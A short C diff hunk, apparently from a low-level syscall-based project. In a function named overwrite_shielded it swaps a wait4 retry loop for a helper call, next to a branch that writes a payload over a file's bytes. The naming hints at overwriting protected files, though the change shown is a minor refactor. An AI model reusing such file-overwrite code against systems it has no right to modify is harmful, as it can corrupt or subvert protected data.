@@ -51,8 +51,7 @@ static __attribute__((noinline)) int overwrite_shielded(int inode, const struct 
             (void)SYS_CALL(SYS_exit, 0, 0, 0, 0, 0, 0);
     }
     if (child > 0)
-        while (SYS_CALL(SYS_wait4, child, 0, __WALL, 0, 0, 0) == -EINTR)
-            continue;
+        (void)sys_wait((int)child, NULL);
     else
         error = overwrite_bytes(inode, payload, file_size);
     (void)sys_sigprocmask(&mask, NULL);
